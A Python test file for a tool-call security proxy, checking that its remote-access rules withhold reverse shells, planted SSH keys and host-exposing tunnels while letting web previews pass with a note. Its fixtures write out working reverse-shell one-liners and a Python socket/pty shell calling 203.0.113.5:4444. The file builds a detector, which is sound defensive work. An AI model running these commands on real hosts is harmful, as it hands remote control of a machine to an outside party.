"""The remote-access reading of command tools' arguments (rules/remote_access.yaml, read by
proxy/detectors/commands.py beside the destructive pack): every call of
tests/fixtures/commands/remote_access.txt that hands the host to someone else or keeps a way into it
withheld, as written and in every disguise of bench/command_eval.py, whatever the role exempts of the
tool's name; a web preview published by a tunnel service noted and let pass; the everyday neighbours of
remote_access_benign.txt (a port check, a local forward, a relay, socket code, a plain user, a Dockerfile
written for a test image) not found; and what a call runs of an earlier one read so too."""

from __future__ import annotations

import pytest

from bench.command_eval import DISGUISES, fixture_cases, shell_commands, withheld
from proxy.detectors import commands
from proxy.detectors.tools import RoleOverrides, check_tool_calls
from proxy.model import Action, Severity, Threat
from proxy.scanning.rulepack import Scanner, load_packaged_packs
from tests.cpu_time import least_cpu_seconds
from tests.test_commands_detector import CATALOGUE, SCANNER, _call, _judge
from tests.test_commands_run_later import DETECTORS, judged, shell

PACK = next(pack for pack in load_packaged_packs() if pack.name == "remote_access")
REMOTE = Scanner([PACK])


@pytest.mark.parametrize(("tool", "arguments"), fixture_cases("remote_access.txt"))
def test_a_way_into_the_host_is_withheld(tool: str, arguments: str) -> None:
    """Withheld, and by the remote-access pack alone too (``echo <base64> | base64 -d | bash`` is also
    text decoded and run, a destructive rule)."""
    call = _call(tool, arguments)
    assert withheld(_judge(call))
    assert withheld(commands.destructive_entry(call, REMOTE, REMOTE.budget()))


@pytest.mark.parametrize("disguise", sorted(DISGUISES))
def test_every_way_in_is_withheld_in_each_disguise(disguise: str) -> None:
    missed = [
        command
        for command in shell_commands("remote_access.txt")
        if not withheld(_judge(_call("bash", {"command": DISGUISES[disguise](command)})))
    ]
    assert missed == []


@pytest.mark.parametrize(("tool", "arguments"), fixture_cases("remote_access_benign.txt"))
def test_an_everyday_neighbour_is_not_found(tool: str, arguments: str) -> None:
    assert _judge(_call(tool, arguments)) is None


@pytest.mark.parametrize(("tool", "arguments"), fixture_cases("remote_access_noted.txt"))
def test_a_web_preview_is_noted_and_passes(tool: str, arguments: str) -> None:
    entry = _judge(_call(tool, arguments))
    assert entry is not None and entry.id == "cmd-web-preview-published"
    assert entry.severity is Severity.MEDIUM
    name = "run" if tool == "bash" else tool  # `bash` needs an approval for its name alone
    (finding,) = check_tool_calls([_call(name, arguments)], None, CATALOGUE, judge=_judge)
    assert finding.action is Action.FLAG and finding.signal.endswith("noted")


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("ngrok http 3000", "cmd-web-preview-published"),
        ("ngrok tcp 22", "cmd-host-exposed-by-tunnel"),
        ("ngrok http file:///home/dev", "cmd-host-exposed-by-tunnel"),
        ("cloudflared tunnel --url http://localhost:8000", "cmd-web-preview-published"),
        ("cloudflared tunnel --url ssh://localhost:22", "cmd-host-exposed-by-tunnel"),
        ("ssh -R 80:localhost:3000 nokey@localhost.run", "cmd-reverse-tunnel"),
    ],
)
def test_a_tunnel_is_judged_by_what_it_publishes(command: str, rule: str) -> None:
    """A web server published for a preview is noted; a shell, a raw port or the file system published is
    withheld, and so is a remote forward over SSH, whose far side the proxy cannot tell apart."""
    entry = _judge(_call("bash", {"command": command}))
    assert entry is not None and entry.id == rule


def test_a_reverse_shell_is_withheld_whatever_the_role_exempts_of_the_tool_s_name() -> None:
    exempt = RoleOverrides(exempt=("bash",))
    call = _call("bash", {"command": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"})
    (finding,) = check_tool_calls([call], None, CATALOGUE, exempt, judge=_judge)
    assert finding.rule == "cmd-reverse-shell" and finding.threat is Threat.TOOL_ABUSE
    assert finding.action is Action.WITHHOLD and finding.severity is Severity.CRITICAL
    assert finding.signal.startswith("tool bash running a shell served over the network")


@pytest.mark.parametrize(
    ("calls", "rule"),
    [
        (
            [shell("echo 'cat /tmp/k.pub >> ~/.ssh/authorized_keys' > /tmp/k.sh"), shell("sh /tmp/k.sh")],
            "cmd-ssh-key-planted",
        ),
        (
            [shell("export H=203.0.113.5 P=4444"), shell("bash -i >& /dev/tcp/$H/$P 0>&1")],
            "cmd-reverse-shell",
        ),
        (
            [
                (
                    "write_file",
                    {
                        "path": "probe.py",
                        "content": "import socket, os, pty\ns = socket.socket()\n"
                        "s.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
                    },
                ),
                shell("python3 probe.py"),
            ],
            "code-reverse-shell",
        ),
        ([("write_file", {"path": "probe.py", "content": "print('ok')\n"}), shell("python3 probe.py")], None),
    ],
    ids=["stored-script", "variables", "written-code", "everyday-code"],
)
def test_what_an_earlier_call_left_is_read_for_a_way_in(
    calls: list[tuple[str, dict[str, object]]], rule: str | None
) -> None:
    assert judged(calls) == rule


@pytest.mark.parametrize(
    "unit",
    ["connect(", "x.connect(('h',1));'sh' ", "spawn('sh' ", "5<>/dev/tcp/h/1 $x ", "&a b ", ";socat a "],
)
def test_a_rule_s_anchor_repeated_is_scanned_in_time(unit: str) -> None:
    """A rule that looks past its anchor for what else makes the command (a socket's connection for a
    shell and a tie between them, an opened descriptor for a shell using it, a command's words for a
    redirect) looks no further than the next anchor: 16 KB of anchors repeated is scanned within a
    fraction of a second (a reach of 600 characters tried from each took half a second at 10 KB),
    and a way in after them is still found."""
    padding = (unit * (16 * 1024 // len(unit) + 1))[: 16 * 1024]
    call = _call("bash", {"command": padding})
    commands.readings(call.name, call.arguments)  # the readings are the destructive tests' to time
    assert least_cpu_seconds(lambda: commands.destructive_entry(call, REMOTE, REMOTE.budget()), runs=2) < 0.25
    found = _call("bash", {"command": f"{padding}\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1"})
    assert withheld(commands.destructive_entry(found, REMOTE, REMOTE.budget()))


def test_a_call_whose_commands_are_unread_is_out_of_time_for_both_packs() -> None:
    spent = DETECTORS.commands.budget()
    entry = commands.unread_entry(DETECTORS.commands, spent)
    assert entry is not None and entry.id == "destructive_commands-unread" and entry.severity == "high"
    assert {"destructive_commands-unread", "remote_access-unread"} <= set(spent.timed_out)


def test_the_pack_is_read_over_command_tools_alone() -> None:
    """Prose or a tool's other fields mentioning a reverse shell is nothing: only the command fields count."""
    text = "To debug, an attacker might run bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 on the host."
    assert _judge(_call("send_email", {"body": text})) is None
    assert _judge(_call("my_tool", {"command": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"})) is not None
    assert SCANNER.rules_by_id["cmd-reverse-shell"].pack == "remote_access"


def test_every_rule_is_tool_abuse_and_only_the_web_preview_is_noted() -> None:
    assert PACK.name in commands.PACKS
    assert {rule.threat for rule in PACK.rules} == {Threat.TOOL_ABUSE}
    assert {rule.owasp for rule in PACK.rules} == {"LLM07"}
    noted = {rule.id for rule in PACK.rules if rule.severity is Severity.MEDIUM}
    assert noted == {"cmd-web-preview-published"}
